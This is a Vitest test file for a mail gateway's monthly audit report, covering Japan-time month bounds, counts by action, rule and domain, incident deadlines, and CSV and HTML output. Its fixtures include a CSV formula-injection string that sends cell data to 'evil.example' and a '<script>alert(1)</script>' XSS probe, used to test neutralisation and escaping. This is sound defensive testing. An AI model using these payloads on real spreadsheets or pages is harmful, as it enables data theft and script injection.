import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SqliteAuditStore } from '../../src/audit/sqlite-audit.js';
import { type MonthlyReport, defaultReportMonth, monthBounds, monthlyReport, previousMonth } from '../../src/audit/report.js';
import { renderReportCsv } from '../../src/audit/report-csv.js';
import { renderReportHtml } from '../../src/audit/report-html.js';
import { REPORT_TIME, monthEvents } from './report-fixtures.js';

let dir: string;
let store: SqliteAuditStore;
let october: MonthlyReport;

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-'));
  store = SqliteAuditStore.open(dir);
  await store.appendMany(monthEvents());
  october = await monthlyReport(store, '2026-10', { incidentMinutes: 60, now: () => REPORT_TIME });
});
afterAll(async () => {
  await store.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('monthlyReport', () => {
  it('takes the month in Japan time (UTC+9)', () => {
    expect(monthBounds('2026-10')).toEqual({ since: new Date('2026-09-30T15:00:00.000Z'), until: new Date('2026-10-31T15:00:00.000Z') });
    expect(monthBounds('2026-12').until).toEqual(new Date('2026-12-31T15:00:00.000Z'));
    expect(october).toMatchObject({ month: '2026-10', since: '2026-09-30T15:00:00.000Z', until: '2026-10-31T15:00:00.000Z', timeZone: expect.stringContaining('UTC+9') });
    // the previous month of a moment early on 1 November in Japan (still 31 October in UTC) is October
    expect(previousMonth(Date.parse('2026-10-31T16:00:00.000Z'))).toBe('2026-10');
    expect(previousMonth(Date.parse('2026-01-15T00:00:00.000Z'))).toBe('2025-12');
    for (const bad of ['2026-13', '2026-1', '26-10', '2026-10-01', '', '0026-10']) expect(() => monthBounds(bad)).toThrow(/YYYY-MM/);
  });

  it('names the chain head at the end of the month, which verify --expect then accepts', async () => {
    const inOctober = await store.list({ until: october.until });
    const last = inOctober.at(-1)!;
    expect(october.chainHead).toEqual({ count: last.seq, mac: last.hash });
    expect(await store.verify({ expect: october.chainHead })).toMatchObject({ ok: true });
    expect(renderReportHtml(october)).toContain(`<code id="chain-head" class="head">${last.seq}:${last.hash}</code>`);
    expect(renderReportCsv(october)).toContain(`${last.seq}:${last.hash}`);
  });

  it('counts events by action, and message decisions by rule, clause and sender domain', () => {
    expect(october.events).toBe(20);
    expect(october.messages).toBe(8); // m1, m2, m3, h1–h5: not m0 (September), not the outbox's delivery
    expect(october.byAction).toEqual([
      { key: 'held', count: 5 },
      { key: 'incident-opened', count: 3 },
      { key: 'incident-reported', count: 3 },
      { key: 'released', count: 3 },
      { key: 'delivered', count: 2 },
      { key: 'discarded', count: 1 },
      { key: 'encrypted', count: 1 },
      { key: 'expired', count: 1 },
      { key: 'rejected', count: 1 },
    ]);
    expect(october.byRule).toEqual([
      { key: 'external-attachment', count: 4 },
      { key: 'first-time-domain', count: 4 },
      { key: 'anonymous-recipient', count: 1 },
      { key: 'lookalike-domain', count: 1 },
      { key: 'zip-encrypt', count: 1 },
    ]);
    expect(october.byClause).toEqual([
      { key: '遵守事項 第6-1', count: 5 },
      { key: '遵守事項 第6-2', count: 1 },
      { key: '遵守事項 第6-3', count: 1 },
    ]);
    expect(october.bySenderDomain).toEqual([
      { key: 'example.co.jp', count: 6 }, // Taro@Example.CO.JP too
      { key: '<>', count: 1 },
      { key: '=hyperlink("http://evil.example/?"&a1,"x")', count: 1 },
    ]);
  });

  it('counts the decisions of each day of the month in Japan time, by verdict', () => {
    expect(october.byDay).toHaveLength(31);
    expect(october.byDay[0]).toEqual({ day: '2026-10-01', delivered: 1, encrypted: 0, held: 0, rejected: 0 }); // m1 at 00:00 JST; not the outbox's delivery
    const busy = october.byDay.filter((d) => d.delivered + d.encrypted + d.held + d.rejected > 0);
    expect(busy.map((d) => d.day)).toEqual(['2026-10-01', '2026-10-05', '2026-10-10', '2026-10-11', '2026-10-12', '2026-10-13', '2026-10-31']);
    expect(october.byDay.find((d) => d.day === '2026-10-05')).toEqual({ day: '2026-10-05', delivered: 0, encrypted: 1, held: 0, rejected: 1 });
    expect(october.byDay.at(-1)).toEqual({ day: '2026-10-31', delivered: 0, encrypted: 0, held: 1, rejected: 0 }); // h5 at 23:00 JST
    expect(october.byDay.reduce((a, d) => a + d.delivered + d.encrypted + d.held + d.rejected, 0)).toBe(october.messages);
  });

  it('counts a message deferred (451) and then accepted once: the deferral is no decision, nor a decision the next hop then refused', async () => {
    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-'));
    const s = SqliteAuditStore.open(d);
    try {
      const message = { sender: 'taro@example.co.jp', recipients: ['a@partner.example'], rules: ['first-time-domain'], clauses: ['遵守事項 第6-1'] };
      await s.appendMany([
        { time: '2026-10-02T01:00:00.000Z', type: 'deferred', messageId: 'try1', ...message, action: 'tempfail', detail: '451 4.4.1 Next hop unavailable' },
        // the next try's decision was on record before the next hop failed it: it is followed by deferred
        { time: '2026-10-02T01:02:00.000Z', type: 'delivered', messageId: 'try2', ...message, action: 'deliver' },
        { time: '2026-10-02T01:02:00.100Z', type: 'deferred', messageId: 'try2', ...message, action: 'tempfail', detail: '451 4.4.0 Next hop refused the message' },
        { time: '2026-10-02T01:05:00.000Z', type: 'delivered', messageId: 'try3', ...message, action: 'deliver' },
        // refused for good by the next hop after the decision's event: passed back (554), never sent
        { time: '2026-10-02T01:06:00.000Z', type: 'delivered', messageId: 'try4', ...message, action: 'deliver' },
        { time: '2026-10-02T01:06:00.100Z', type: 'next-hop-refused', messageId: 'try4', ...message, action: 'refused', detail: '554 5.7.1 Next hop refused the message' },
      ]);
      const r = await monthlyReport(s, '2026-10', { now: () => REPORT_TIME });
      expect(r.messages).toBe(1);
      expect(r.byRule).toEqual([{ key: 'first-time-domain', count: 1 }]);
      // the undone decision is not counted by action either (the dashboard counts the same way); the deferrals are
      expect(r.byAction).toEqual([
        { key: 'deferred', count: 2 },
        { key: 'delivered', count: 1 },
        { key: 'next-hop-refused', count: 1 },
      ]);
      expect(r.byDay.find((d) => d.day === '2026-10-02')).toEqual({ day: '2026-10-02', delivered: 1, encrypted: 0, held: 0, rejected: 0 });
    } finally {
      await s.close();
      fs.rmSync(d, { recursive: true, force: true });
    }
  });

  it('counts holds and the median time to release by the month of the release (odd and even counts)', async () => {
    expect(october.holds).toEqual({ held: 5, released: 3, discarded: 1, expired: 1, releasesMeasured: 3, medianMinutesToRelease: 30 });
    const november = await monthlyReport(store, '2026-11', { now: () => REPORT_TIME });
    expect(november.holds).toMatchObject({ held: 1, released: 2, releasesMeasured: 2, medianMinutesToRelease: 40 });
    const empty = await monthlyReport(store, '2026-08');
    expect(empty).toMatchObject({ events: 0, messages: 0, byAction: [], incidents: [], holds: { held: 0, released: 0, medianMinutesToRelease: null } });
  });

  it('lists incidents with the time to report, within 60 minutes or not, and the overdue one', () => {
    expect(october.incidents).toEqual([
      {
        id: 'i0',
        openedAt: '2026-09-30T14:30:00.000Z',
        trigger: 'manual',
        openedBy: 'admin',
        messageId: 'm0',
        deadline: '2026-09-30T15:30:00.000Z',
        reportedAt: '2026-09-30T15:10:00.000Z',
        reportedBy: 'admin',
        minutesToReport: 40,
        withinLimit: true,
        status: 'reported-in-time',
      },
      {
        id: 'i1',
        openedAt: '2026-10-20T01:00:00.000Z',
        trigger: 'mistake',
        openedBy: 'jiro@example.co.jp',
        messageId: 'h3',
        subject: '<script>alert(1)</script>',
        deadline: '2026-10-20T02:00:00.000Z',
        reportedAt: '2026-10-20T01:42:00.000Z',
        reportedBy: 'outguard (for jiro@example.co.jp)',
        minutesToReport: 42,
        withinLimit: true,
        status: 'reported-in-time',
      },
      { id: 'i2', openedAt: '2026-10-25T03:00:00.000Z', trigger: 'rule', openedBy: 'gateway', messageId: 'm3', deadline: '2026-10-25T04:00:00.000Z', withinLimit: null, status: 'overdue' },
      {
        id: 'i3',
        openedAt: '2026-10-26T00:00:00.000Z',
        trigger: 'manual',
        openedBy: 'admin',
        deadline: '2026-10-26T01:00:00.000Z',
        reportedAt: '2026-10-26T01:30:00.000Z',
        reportedBy: 'admin',
        minutesToReport: 90,
        withinLimit: false,
        status: 'reported-late',
      },
    ]);
    // without the incidents' records, a longer limit today makes i3 in time
    return monthlyReport(store, '2026-10', { incidentMinutes: 120, now: () => REPORT_TIME }).then((r) => expect(r.incidents.find((i) => i.id === 'i3')).toMatchObject({ withinLimit: true, status: 'reported-in-time' }));
  });

  it("judges each incident by its own deadline, not by today's incidentMinutes, as the incident pages do", async () => {
    // i2 was opened with a 30-minute limit, i3 with a 120-minute one; today's setting is 1440 minutes
    const deadlines = new Map([
      ['i2', Date.parse('2026-10-25T03:30:00.000Z')],
      ['i3', Date.parse('2026-10-26T02:00:00.000Z')],
    ]);
    const deadlineOf = (id: string) => Promise.resolve(deadlines.get(id));
    // 45 minutes after i2 was opened: past its own deadline, well inside today's limit
    const r = await monthlyReport(store, '2026-10', { incidentMinutes: 1440, deadlineOf, now: () => Date.parse('2026-10-25T03:45:00.000Z') });
    expect(r.incidents.find((i) => i.id === 'i2')).toMatchObject({ deadline: '2026-10-25T03:30:00.000Z', status: 'overdue', withinLimit: null });
    const later = await monthlyReport(store, '2026-10', { incidentMinutes: 10, deadlineOf, now: () => REPORT_TIME });
    // reported after 90 minutes: in time against its own 120 minutes, though today's limit is 10
    expect(later.incidents.find((i) => i.id === 'i3')).toMatchObject({ deadline: '2026-10-26T02:00:00.000Z', withinLimit: true, status: 'reported-in-time' });
    // i1 has no record: today's limit (10 minutes) is all there is
    expect(later.incidents.find((i) => i.id === 'i1')).toMatchObject({ deadline: '2026-10-20T01:10:00.000Z', status: 'reported-late' });
    expect(renderReportHtml(r)).toMatch(/<tr data-incident="i2">[\s\S]*?<td class="time">2026-10-25 12:30<\/td>[\s\S]*?未報告・期限超過/);
  });

  it('an unreported incident still inside its limit is open, not overdue', async () => {
    const r = await monthlyReport(store, '2026-10', { now: () => Date.parse('2026-10-25T03:30:00.000Z') });
    expect(r.incidents.find((i) => i.id === 'i2')).toMatchObject({ status: 'open', withinLimit: null });
  });
});

describe('defaultReportMonth: the month the report page opens on', () => {
  it('is the previous month when it has events', async () => {
    expect(await defaultReportMonth(store, Date.parse('2026-11-15T00:00:00.000Z'))).toBe('2026-10');
  });

  it('is the most recent month with events when the previous one has none: this month on the first days of use', async () => {
    // 2026-12 (JST): November has events, so November
    expect(await defaultReportMonth(store, Date.parse('2026-12-01T00:00:00.000Z'))).toBe('2026-11');
    // 2027-01: December has none; the latest event is in November
    expect(await defaultReportMonth(store, Date.parse('2027-01-10T00:00:00.000Z'))).toBe('2026-11');
    // 2026-10-05: September has events (h0, m0, i0)
    expect(await defaultReportMonth(store, Date.parse('2026-10-05T00:00:00.000Z'))).toBe('2026-09');
    // a fresh install in 2026-09 (JST): August is empty, the events so far are this month's
    expect(await defaultReportMonth(store, Date.parse('2026-09-30T12:00:00.000Z'))).toBe('2026-09');
  });

  it('is this month when the log is empty', async () => {
    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-empty-'));
    const s = SqliteAuditStore.open(d);
    try {
      expect(await defaultReportMonth(s, Date.parse('2026-12-31T16:00:00.000Z'))).toBe('2027-01');
    } finally {
      await s.close();
      fs.rmSync(d, { recursive: true, force: true });
    }
  });
});

describe('report CSV', () => {
  const csv = () => renderReportCsv(october);
  const rows = () => csv().slice(1).trimEnd().split('\r\n');

  it('is UTF-8 with a BOM and CRLF, Japanese first', () => {
    const text = csv();
    expect(text.startsWith('\uFEFF区分 / section,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(Buffer.from(text, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(rows()).toContain('対象期間 / Period,2026-10,,,,,,,"2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9） / 2026-10-01 00:00 to 2026-11-01 00:00 JST (UTC+9), end exclusive"');
    expect(rows()).toContain('ルール別件数 / Messages by rule,first-time-domain,4,,,,,,');
    expect(rows()).toContain('条項別件数 / Messages by clause,遵守事項 第6-1,5,,,,,,');
    expect(rows()).toContain('処理別件数 / Events by action,保留 / held,5,,,,,,');
    expect(rows()).toContain('送信前の確認（保留） / Confirmation holds,保留から送信までの時間（中央値、分） / Median minutes from held to released,30,,,,,,3 releases measured');
  });

  it('lists the incidents with their times in Japan time', () => {
    expect(rows()).toContain(
      'インシデント（遵守事項 第2） / Incidents (clause 2),i1,期限内に報告 / reported in time,2026-10-20 10:00,2026-10-20 11:00,2026-10-20 10:42,42,はい / yes,trigger: mistake; opened by: jiro@example.co.jp; reported by: outguard (for jiro@example.co.jp); message: h3',
    );
    expect(rows().find((r) => r.includes(',i2,'))).toContain(',"未報告・期限超過 / overdue, not reported",2026-10-25 12:00,2026-10-25 13:00,,,,');
    expect(rows().find((r) => r.includes(',i3,'))).toContain(',90,いいえ / no,');
  });

  it('neutralises a cell that would be a formula', () => {
    const domainRow = rows().find((r) => r.includes('hyperlink'))!;
    expect(domainRow).toBe(`送信者ドメイン別件数 / Messages by sender domain,"'=hyperlink(""http://evil.example/?""&a1,""x"")",1,,,,,,`);
    for (const row of rows()) for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?[=+\-@]/);
  });
});

describe('report HTML', () => {
  const page = () => renderReportHtml(october);

  it('is a standalone page with the figures, Japanese first, and no external resources', () => {
    const html = page();
    expect(html).toMatch(/^<!doctype html>\n<html lang="ja">/);
    expect(html).toContain('<h1>月次報告 2026-10<span class="en" lang="en">Monthly report 2026-10</span></h1>');
    expect(html).toContain('<dd id="messages">8</dd>');
    expect(html).toContain('<td class="n" id="holds-released">3</td>');
    expect(html).toContain('<td class="n" id="median">30</td>');
    expect(html).toContain('2026-10-01 00:00 〜 2026-11-01 00:00（日本時間、UTC+9）');
    expect(html).toMatch(/<tr data-incident="i1">[\s\S]*?<td class="n">42<\/td>[\s\S]*?期限内に報告/);
    // how it was opened, in words
    expect(html).toMatch(/<tr data-incident="i1">[\s\S]*?担当者が登録<span class="en" lang="en">opened by a person<\/span>/);
    expect(html).toMatch(/<tr data-incident="i2">[\s\S]*?未報告・期限超過/);
    expect(html).toContain('@page{size:A4');
    expect(html).not.toMatch(/<(link|script|img)\b|src=|@import|url\(/);
  });

  it('draws the daily chart and the top rules and sender domains as SVG, with their numbers as text, printable in black and white', () => {
    const html = page();
    const daily = /<figure class="chart" id="chart-daily">[\s\S]*?<\/figure>/.exec(html)![0];
    expect(daily).toContain('role="img" aria-labelledby="chart-daily-title chart-daily-desc"');
    expect(daily).toContain('合計 8 件（配送 1、暗号化して配送 1、保留 5、拒否（送信不可） 1）');
    expect(daily).toMatch(/<tr><th scope="row">2026-10-05<\/th><td>0<\/td><td>1<\/td><td>0<\/td><td>1<\/td><td>2<\/td><\/tr>/);
    expect(html).toMatch(/<figure class="chart" id="chart-rules">[\s\S]*?社外宛ての添付ファイル：4 件、初めて送信するドメイン：4 件/);
    expect(html).toMatch(/<figure class="chart" id="chart-domains">[\s\S]*?>example\.co\.jp<title>/);
    // print: grey shades with outlines, and no chart split across pages
    expect(html).toMatch(/@media print\{[^@]*\.chart \.c3\{fill:#000\}/);
    expect(html).toMatch(/@media print\{[^@]*figure\.chart,svg\.chart\{break-inside:avoid\}/);
  });

  it('says so instead of drawing an empty chart for a month without mail', async () => {
    const html = renderReportHtml(await monthlyReport(store, '2026-08', { now: () => REPORT_TIME }));
    expect(html).toContain('<p class="chart-empty" id="chart-daily-empty">この期間に判定したメールはありません。');
    expect(html).not.toContain('<svg');
  });

  it('escapes what senders and users wrote', () => {
    const html = page();
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('=hyperlink(&quot;http://evil.example/?&quot;&amp;a1,&quot;x&quot;)');
  });

  it('shows a time under a minute in words, not as 0 minutes', () => {
    const sameSecond = { ...october, holds: { ...october.holds, medianMinutesToRelease: 0.3 }, incidents: [{ ...october.incidents[1]!, minutesToReport: 0 }] };
    const html = renderReportHtml(sameSecond);
    expect(html).toMatch(/<tr data-incident="i1">[\s\S]*?<td class="n">1 分以内<span class="en" lang="en">under 1 min<\/span><\/td>/);
    expect(html).toContain('<td class="n" id="median">1 分以内<span class="en" lang="en">under 1 min</span></td>');
  });

  it('carries the CSP nonce when it is served from a page', () => {
    expect(renderReportHtml(october, { nonce: 'abc123' })).toContain('<style nonce="abc123">');
  });
});

describe('monthlyReport: a message the client sent again', () => {
  it('counts it once: the repeat is an event, not a second decision', async () => {
    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'outguard-report-repeat-'));
    const s = SqliteAuditStore.open(d);
    try {
      const base = { messageId: 'r1', sender: 'taro@example.co.jp', recipients: ['a@partner.example'], rules: [], clauses: [], time: '2026-10-10T01:00:00.000Z' };
      await s.appendMany([
        { ...base, type: 'encrypted', action: 'deliver', actor: '127.0.0.1' },
        { ...base, type: 'repeated', action: 'deliver', actor: '127.0.0.1', time: '2026-10-10T01:05:00.000Z' },
      ]);
      const report = await monthlyReport(s, '2026-10', { now: () => REPORT_TIME });
      expect(report.messages).toBe(1);
      expect(report.byAction).toEqual([
        { key: 'encrypted', count: 1 },
        { key: 'repeated', count: 1 },
      ]);
    } finally {
      await s.close();
      fs.rmSync(d, { recursive: true, force: true });
    }
  });
});
